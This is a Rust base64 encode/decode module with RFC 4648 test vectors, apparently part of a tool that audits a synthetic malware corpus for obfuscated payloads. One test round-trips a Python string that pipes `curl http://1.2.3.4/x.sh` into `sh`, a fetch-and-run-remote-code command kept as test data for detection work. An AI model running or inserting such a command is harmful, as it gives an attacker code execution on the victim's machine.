//! Standard-alphabet base64 (RFC 4648) with padding.
//!
//! The synthetic malware corpus hides payloads behind
//! `exec(base64.b64decode(...))` exactly like the GuardDog samples; the
//! LLM analyzer decodes one layer when auditing for obfuscation.

use std::error::Error;
use std::fmt;

const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Error returned by [`decode`] for malformed input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecodeError {
    /// Offset of the offending character.
    pub position: usize,
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid base64 at offset {}", self.position)
    }
}

impl Error for DecodeError {}

/// Encodes `data` as base64 with `=` padding.
pub fn encode(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = chunk[0] as u32;
        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
        let n = (b0 << 16) | (b1 << 8) | b2;
        out.push(ALPHABET[(n >> 18) as usize & 63] as char);
        out.push(ALPHABET[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            ALPHABET[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            ALPHABET[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// Decodes base64 `input` (padding required for the final group).
///
/// # Errors
///
/// Returns [`DecodeError`] on characters outside the alphabet or
/// mis-placed padding.
pub fn decode(input: &str) -> Result<Vec<u8>, DecodeError> {
    let mut out = Vec::with_capacity(input.len() / 4 * 3);
    decode_into(input, &mut out)?;
    Ok(out)
}

/// Appends the decoding of base64 `input` to `out`, like [`decode`]; on
/// an error, `out` holds whatever decoded before it.
///
/// # Errors
///
/// As [`decode`].
pub fn decode_into(input: &str, out: &mut Vec<u8>) -> Result<(), DecodeError> {
    let bytes = input.as_bytes();
    let mut quad = [0u8; 4];
    let mut quad_len = 0;
    let mut pad = 0;
    for (pos, &b) in bytes.iter().enumerate() {
        if b == b'\n' || b == b'\r' {
            continue;
        }
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => {
                pad += 1;
                if pad > 2 {
                    return Err(DecodeError { position: pos });
                }
                quad[quad_len] = 0;
                quad_len += 1;
                if quad_len == 4 {
                    flush(&quad, pad, out);
                    quad_len = 0;
                }
                continue;
            }
            _ => return Err(DecodeError { position: pos }),
        };
        if pad > 0 {
            // Data after padding is malformed.
            return Err(DecodeError { position: pos });
        }
        quad[quad_len] = v;
        quad_len += 1;
        if quad_len == 4 {
            flush(&quad, 0, out);
            quad_len = 0;
        }
    }
    if quad_len != 0 {
        return Err(DecodeError {
            position: input.len(),
        });
    }
    Ok(())
}

fn flush(quad: &[u8; 4], pad: usize, out: &mut Vec<u8>) {
    let n = (u32::from(quad[0]) << 18)
        | (u32::from(quad[1]) << 12)
        | (u32::from(quad[2]) << 6)
        | u32::from(quad[3]);
    out.push((n >> 16) as u8);
    if pad < 2 {
        out.push((n >> 8) as u8);
    }
    if pad < 1 {
        out.push(n as u8);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfc4648_vectors() {
        assert_eq!(encode(b""), "");
        assert_eq!(encode(b"f"), "Zg==");
        assert_eq!(encode(b"fo"), "Zm8=");
        assert_eq!(encode(b"foo"), "Zm9v");
        assert_eq!(encode(b"foob"), "Zm9vYg==");
        assert_eq!(encode(b"fooba"), "Zm9vYmE=");
        assert_eq!(encode(b"foobar"), "Zm9vYmFy");
    }

    #[test]
    fn decode_vectors() {
        assert_eq!(decode("").unwrap(), b"");
        assert_eq!(decode("Zg==").unwrap(), b"f");
        assert_eq!(decode("Zm8=").unwrap(), b"fo");
        assert_eq!(decode("Zm9vYmFy").unwrap(), b"foobar");
    }

    #[test]
    fn roundtrip_binary() {
        let data: Vec<u8> = (0..=255u8).collect();
        assert_eq!(decode(&encode(&data)).unwrap(), data);
    }

    #[test]
    fn decode_tolerates_newlines() {
        assert_eq!(decode("Zm9v\nYmFy").unwrap(), b"foobar");
    }

    #[test]
    fn decode_rejects_garbage() {
        let err = decode("Zm9*").unwrap_err();
        assert_eq!(err.position, 3);
    }

    #[test]
    fn decode_rejects_truncated() {
        assert!(decode("Zm9").is_err());
    }

    #[test]
    fn decode_rejects_data_after_padding() {
        assert!(decode("Zg==Zg==").is_err());
    }

    #[test]
    fn obfuscated_payload_roundtrip() {
        let payload = "import os; os.system('curl http://1.2.3.4/x.sh | sh')";
        let enc = encode(payload.as_bytes());
        assert_eq!(decode(&enc).unwrap(), payload.as_bytes());
    }
}
